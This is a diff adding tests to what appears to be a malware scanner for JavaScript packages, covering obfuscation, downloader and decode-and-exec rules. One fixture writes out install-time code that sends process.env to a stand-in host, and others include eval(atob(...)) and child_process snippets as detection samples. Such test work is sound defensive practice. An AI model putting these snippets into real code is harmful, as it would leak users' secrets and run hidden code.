@@ -158,10 +158,41 @@ def test_python2_source_falls_back_to_line_scan() -> None:
 
 
 def test_unparsable_javascript_uses_tokenizer() -> None:
-    source = "const a = b?.c ?? 1;\neval(atob('MQ=='));\nrequire('child_process');\n"
+    source = "class A { #a = b?.c; }\neval(atob('MQ=='));\nrequire('child_process');\n"
     signals, parsed = analyze_javascript("x.js", source, Context.RUNTIME)
     assert not parsed
     assert {"malicious-decode-exec", "capability-subprocess"} <= {s.rule_id for s in signals}
+
+
+def test_obfuscator_io_string_array_rotation_is_high_on_its_own() -> None:
+    rotation = SAMPLES["malicious-obfuscation"]["positive"][-3]["lib.js"]
+    assert isinstance(rotation, str)
+    without_require = rotation.replace("const _0xcp=require(a0(0x1a6));", "")
+    found = findings_for({"lib.js": without_require})
+    obfuscation = next(f for f in found if f.rule_id == "malicious-obfuscation")
+    assert obfuscation.severity is Severity.HIGH
+
+
+def test_a_downloader_called_before_it_is_defined_is_still_followed() -> None:
+    # main() is read before download(): the file is read a second time with what was learnt
+    found = findings_for(SAMPLES["malicious-download-exec"]["positive"][-1])
+    assert any(f.rule_id == "malicious-download-exec" and f.severity.at_least(Severity.HIGH) for f in found)
+
+
+def test_syntax_newer_than_the_parser_is_rewritten_and_parsed() -> None:
+    # optional catch binding, optional chaining, nullish coalescing: ES2019-2020, beyond esprima's ES2017
+    source = (
+        "const https = require('https');\n"
+        "function go() {\n"
+        "  try { JSON.parse('{}'); } catch { return; }\n"
+        "  const env = process?.env ?? {};\n"
+        "  https.request({host: 'h.example.invalid'}).end(JSON.stringify(env));\n"
+        "}\n"
+    )
+    signals, parsed = analyze_javascript("x.js", source, Context.INSTALL)
+    assert parsed
+    flows = [s for s in signals if s.rule_id == "malicious-env-exfiltration" and s.flow]
+    assert flows and flows[0].line == 5
 
 
 def test_deeply_nested_python_does_not_crash() -> None:
